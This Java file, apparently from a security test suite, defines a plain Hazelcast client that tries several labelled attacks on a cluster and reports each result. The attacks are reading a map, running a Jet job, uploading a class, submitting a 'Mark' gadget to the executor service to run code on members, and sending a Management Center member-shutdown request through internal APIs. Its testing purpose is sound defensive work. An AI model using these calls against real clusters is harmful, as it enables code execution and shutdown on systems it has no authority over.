package org.stranger;

import com.hazelcast.client.HazelcastClient;
import com.hazelcast.client.config.ClientConfig;
import com.hazelcast.client.impl.clientside.HazelcastClientInstanceImpl;
import com.hazelcast.client.impl.clientside.HazelcastClientProxy;
import com.hazelcast.client.impl.protocol.codec.MCShutdownMemberCodec;
import com.hazelcast.client.impl.spi.impl.ClientInvocation;
import com.hazelcast.core.HazelcastInstance;
import com.hazelcast.jet.config.JobConfig;
import com.hazelcast.jet.pipeline.Pipeline;
import com.hazelcast.jet.pipeline.Sinks;
import com.hazelcast.jet.pipeline.Sources;
import com.hazelcast.map.IMap;

/**
 * A client as anybody may write it, in a process with Hazelcast alone: it tries each attack with a connection of its own and
 * prints what came of it, {@code NAME done RESULT} or {@code NAME failed REASON}.
 */
public final class PlainClient {
    private static final int TRY_MILLIS = 500;

    private interface Attack {
        Object on(HazelcastInstance client) throws Exception;
    }

    private PlainClient() {
    }

    /** Address, cluster name, file for the mark. */
    public static void main(String[] arguments) {
        ClientConfig config = new ClientConfig().setClusterName(arguments[1]);
        config.getNetworkConfig().addAddress(arguments[0]);
        config.getConnectionStrategyConfig().getConnectionRetryConfig().setClusterConnectTimeoutMillis(TRY_MILLIS);
        tryIt(config, "connect", client -> client.getCluster().getMembers().size());
        tryIt(config, "read", client -> client.getMap("weights").get("first"));
        tryIt(config, "job", client -> copyOfAMap(client, new JobConfig()));
        tryIt(config, "upload", PlainClient::upload);
        tryIt(config, "gadget", client -> client.getExecutorService("any").submit(new Mark(arguments[2])).get());
        tryIt(config, "shutdown", PlainClient::shutDown);
        System.exit(0);
    }

    private static void tryIt(ClientConfig config, String name, Attack attack) {
        HazelcastInstance client = null;
        try {
            client = HazelcastClient.newHazelcastClient(config);
            System.out.println(name + " done " + attack.on(client));
        } catch (Exception e) {
            System.out.println(name + " failed " + e);
        } finally {
            if (client != null) {
                client.shutdown();
            }
        }
    }

    /** Runs a job that brings a class along. */
    public static Object upload(HazelcastInstance client) {
        return copyOfAMap(client, new JobConfig().addClass(Mark.class));
    }

    private static Object copyOfAMap(HazelcastInstance client, JobConfig config) {
        Pipeline pipeline = Pipeline.create();
        pipeline.readFrom(Sources.<String, String>map("weights")).writeTo(Sinks.map("copy"));
        client.getJet().newJob(pipeline, config).join();
        IMap<String, String> copy = client.getMap("copy");
        return copy.get("first");
    }

    /** Sends one management task, as Management Center does. */
    public static Object shutDown(HazelcastInstance client) throws Exception {
        HazelcastClientInstanceImpl inside = ((HazelcastClientProxy) client).client;
        return new ClientInvocation(inside, MCShutdownMemberCodec.encodeRequest(), null,
                client.getCluster().getMembers().iterator().next().getUuid()).invoke().get() == null ? "nothing" : "sent";
    }
}
